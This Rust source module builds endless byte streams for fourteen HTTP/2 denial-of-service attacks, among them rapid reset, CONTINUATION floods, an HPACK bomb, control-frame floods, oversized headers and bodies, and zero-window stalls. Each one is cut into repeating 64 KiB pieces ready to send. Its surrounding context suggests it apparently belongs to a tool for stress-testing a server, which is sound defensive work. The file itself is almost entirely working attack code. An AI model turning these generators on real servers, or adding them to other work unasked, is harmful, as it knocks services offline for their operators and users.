//! The fourteen ways to abuse HTTP/2, as bytes without end.

use super::frames::{CHECK, begin, call, flag, frame, header, kind, message, remembered, setting, window};

/// One kind of abuse.
#[derive(Clone, Copy, Debug)]
pub struct Kind {
    /// Name in the table.
    pub name: &'static str,
    /// Sent once, after the preface and empty settings.
    opening: fn() -> Vec<u8>,
    /// Sent again and again, with the next stream's number.
    again: fn(u32) -> Vec<u8>,
}

/// All of them.
pub const KINDS: [Kind; 14] = [
    Kind { name: "rapid reset", opening: Vec::new, again: rapid_reset },
    Kind { name: "reset made by the server: window + 0", opening: Vec::new, again: |stream| provoked(stream, 0) },
    Kind { name: "reset made by the server: window overflow", opening: Vec::new, again: |stream| provoked(stream, 0x7fff_ffff) },
    Kind { name: "CONTINUATION", opening: endless_headers, again: |_| frame(kind::CONTINUATION, 0, 1, &header("a", b"b")) },
    Kind { name: "empty DATA", opening: || begin(1, CHECK, 0), again: |_| frame(kind::DATA, 0, 1, &[]) },
    Kind { name: "PING", opening: Vec::new, again: |_| frame(kind::PING, 0, 0, &[7; 8]) },
    Kind { name: "SETTINGS", opening: Vec::new, again: |_| frame(kind::SETTINGS, 0, 0, &[]) },
    Kind { name: "WINDOW_UPDATE", opening: Vec::new, again: |_| window(0, 1) },
    Kind { name: "PRIORITY", opening: Vec::new, again: |_| frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]) },
    Kind { name: "100,000 streams", opening: Vec::new, again: |stream| begin(stream, CHECK, 0) },
    Kind { name: "HPACK bomb", opening: || bomb(1, true), again: |stream| bomb(stream, false) },
    Kind { name: "huge header", opening: Vec::new, again: huge_header },
    Kind { name: "512 MiB declared", opening: Vec::new, again: oversize },
    Kind { name: "zero window", opening: || setting(4, 0), again: unread },
];

impl Kind {
    /// What opens the attack.
    pub fn opening(&self) -> Vec<u8> {
        (self.opening)()
    }

    /// The next piece of it, about 64 KiB, from `stream` on; the number of the stream after it comes back.
    pub fn piece(&self, mut stream: u32) -> (Vec<u8>, u32) {
        let mut piece = Vec::with_capacity(80 * 1_024);
        while piece.len() < 64 * 1_024 {
            piece.extend((self.again)(stream));
            stream += 2;
        }
        (piece, stream)
    }
}

fn rapid_reset(stream: u32) -> Vec<u8> {
    [begin(stream, CHECK, flag::END_STREAM), frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
}

fn provoked(stream: u32, credit: u32) -> Vec<u8> {
    [begin(stream, CHECK, 0), window(stream, credit)].concat()
}

fn endless_headers() -> Vec<u8> {
    frame(kind::HEADERS, 0, 1, &call(CHECK, &[]))
}

fn bomb(stream: u32, first: bool) -> Vec<u8> {
    let mut block = call(CHECK, &[]);
    if first {
        block.extend(remembered("x", &[b'a'; 3_900]));
    }
    // Each byte stands for the 3.9 KB header that both sides remember.
    block.extend([0xbe; 12_000]);
    frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &block)
}

fn huge_header(stream: u32) -> Vec<u8> {
    let block = [call(CHECK, &[]), header("x", &[b'a'; 40_000])].concat();
    let (first, rest) = block.split_at(16_000);
    let (second, third) = rest.split_at(16_000);
    [
        frame(kind::HEADERS, flag::END_STREAM, stream, first),
        frame(kind::CONTINUATION, 0, stream, second),
        frame(kind::CONTINUATION, flag::END_HEADERS, stream, third),
    ]
    .concat()
}

fn oversize(stream: u32) -> Vec<u8> {
    [begin(stream, CHECK, 0), message(stream, 512 * 1_024 * 1_024, &[0; 16], 0)].concat()
}

fn unread(stream: u32) -> Vec<u8> {
    [begin(stream, CHECK, 0), message(stream, 0, &[], flag::END_STREAM)].concat()
}
